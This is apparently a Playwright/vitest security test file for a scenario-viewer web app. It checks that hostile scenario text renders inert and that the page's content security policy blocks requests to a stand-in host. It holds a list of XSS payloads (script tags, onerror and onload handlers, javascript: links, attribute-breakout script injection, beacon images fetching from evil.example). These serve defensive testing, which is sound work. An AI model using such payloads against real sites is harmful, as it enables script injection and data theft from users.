import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { parse, stringify } from 'yaml';
import { writeToken } from '../../src/run/token.ts';
import { parseScenario } from '../../src/scenario/parse.ts';
import { atRest, launchBrowser, pageUrl } from './browser.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(async () => browser.close());

/** Each of them would set `window.hacked` or fetch from evil.example, if anything ran or loaded it. */
const ATTACKS = [
  '<script>window.hacked=1</script>',
  '<img src="https://evil.example/a.png" onerror="window.hacked=1">',
  '![beacon](https://evil.example/b.png)',
  '<svg onload="window.hacked=1"><image href="https://evil.example/c.png"/></svg>',
  '<iframe src="https://evil.example/d"></iframe>',
  '<style>@import "https://evil.example/e.css"; body{background:url(https://evil.example/f.png)}</style>',
  '<link rel="stylesheet" href="https://evil.example/g.css">',
  '[click](javascript:window.hacked=1)',
  '%%{init: {"securityLevel": "loose"}}%% <b onmouseover="window.hacked=1">x</b>',
  '"><script src="https://evil.example/h.js"></script>',
];
const ALL = ATTACKS.join('\n\n');

const HOSTILE = stringify({
  scenario: 'hostile',
  title: ATTACKS[0],
  summary: `${ATTACKS[1]} ${ATTACKS[2]} ${ATTACKS[7]}`,
  teaches: ['message-flow'],
  duration: '2s',
  design: { servers: { count: 2 }, gateway: { count: 1 } },
  workload: {
    users: ['alice', 'bob'],
    channels: { named: { both: ['alice', 'bob'] } },
    messages: { perUserPerMinute: 0 },
  },
  script: [
    { at: '0s', say: ALL },
    { at: '0s', send: { from: 'alice', to: 'both' } },
    {
      at: '100ms',
      ask: ALL,
      choices: ATTACKS.slice(0, 6).map((text) => text.slice(0, 100)),
      answer: 1,
      explain: ALL,
    },
  ],
  compare: [{ name: '<img src=x onerror="window.hacked=1">', set: { 'design.servers.count': 1 } }],
});

const tokenOf = (text: string): string =>
  writeToken({
    version: '0.1.0',
    text,
    overrides: [],
    seed: null,
    hand: [],
    choices: null,
    timeUs: 0,
    about: null,
  });

test('the hostile scenario is one that the parser accepts, or this would test nothing', () => {
  expect(parse(HOSTILE)).toMatchObject({ scenario: 'hostile' });
  expect(parseScenario(HOSTILE, 'hostile.yaml').script).toHaveLength(3);
});

test('script, image beacons and HTML in every text of a scenario do nothing', async () => {
  const context = await browser.newContext({
    serviceWorkers: 'block',
    viewport: { width: 1440, height: 900 },
  });
  const page = await context.newPage();
  const sent: string[] = [];
  const problems: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(pageUrl()) && !/^(data|blob):/.test(request.url()))
      sent.push(request.url());
  });
  page.on('pageerror', (error) => problems.push(error.message));
  page.on('dialog', () => problems.push('a dialog came up'));
  page.on('popup', () => problems.push('a window came up'));
  // Names that are HTML are refused, and the complaint is text too.
  await page.goto(
    `${pageUrl()}#x=${tokenOf(HOSTILE.replaceAll('alice', "'<img src=x onerror=window.hacked=1>'"))}`,
  );
  await page.getByRole('alert').getByText('is no name').first().waitFor();
  await page.goto('about:blank');
  await page.goto(`${pageUrl()}#x=${tokenOf(HOSTILE)}&t=0.1s`);
  await page.getByRole('heading', { name: ATTACKS[0]! }).waitFor();
  // Every picture, in drawing and in words, with what is selected, and the editor.
  const tabs = page.getByRole('tablist', { name: /Pictures/ }).getByRole('tab');
  const pictures = await tabs.count();
  for (let i = 1; i <= pictures; i++) {
    await page.keyboard.press(String(i));
    await expect.poll(() => tabs.nth(i - 1).getAttribute('aria-selected')).toBe('true');
    await atRest(page);
  }
  await page.keyboard.press('1');
  await page.getByRole('button', { name: 'in words' }).click();
  await atRest(page);
  await page.keyboard.press('e');
  await page.getByRole('textbox', { name: /Text of the scenario/ }).waitFor();
  await page.getByText('No problems: this text can be run.').waitFor();
  await page.getByRole('radio').first().waitFor();
  expect(
    await page.evaluate(() => ({
      hacked: 'hacked' in window,
      // What is written as HTML stands there as text, or not at all.
      elements: document.querySelectorAll(
        'iframe, object, embed, link[href*="evil"], script[src*="evil"], img, a[href^="javascript"], [onerror], [onload], [onmouseover]',
      ).length,
    })),
  ).toEqual({ hacked: false, elements: 0 });
  expect(sent).toEqual([]);
  expect(problems).toEqual([]);
  await context.close();
});

test('the policy of the built page forbids what would get past everything else', async () => {
  const page = await browser.newPage({ serviceWorkers: 'block' });
  await page.goto(pageUrl());
  const outcome = await page.evaluate(async () => {
    const blocked: string[] = [];
    document.addEventListener('securitypolicyviolation', (event) => blocked.push(event.effectiveDirective));
    const script = document.createElement('script');
    script.textContent = 'window.hacked = 1';
    document.body.append(script);
    const image = new Image();
    image.src = 'https://evil.example/beacon.png';
    await fetch('https://evil.example/').catch(() => null);
    const frame = document.createElement('iframe');
    frame.src = 'https://evil.example/';
    document.body.append(frame);
    const deadline = performance.now() + 3_000;
    while (new Set(blocked).size < 4 && performance.now() < deadline)
      await new Promise((done) => setTimeout(done, 20));
    return { blocked: [...new Set(blocked)].sort(), hacked: 'hacked' in window };
  });
  expect(outcome).toEqual({
    blocked: ['connect-src', 'frame-src', 'img-src', 'script-src-elem'],
    hacked: false,
  });
  await page.close();
});

test('a world that takes much memory is opened only when the reader says so, and tells what would make it smaller', async () => {
  const page = await browser.newPage({ serviceWorkers: 'block' });
  await page.goto(`${pageUrl()}#s=million-users&users=2000000`);
  const notice = page.getByRole('alert').filter({ hasText: 'is a large world' });
  await notice.waitFor();
  expect(await notice.textContent()).toMatch(
    /the world takes 1\.\d+ GB of memory.*: write (duration|workload\.users): /,
  );
  await notice.getByRole('button', { name: 'Open it all the same' }).click();
  // It is being built now; nobody needs to wait for it.
  await page.getByRole('heading', { name: /^Building/ }).waitFor();
  await page.getByRole('button', { name: 'stop' }).click();
  await page.close();
});
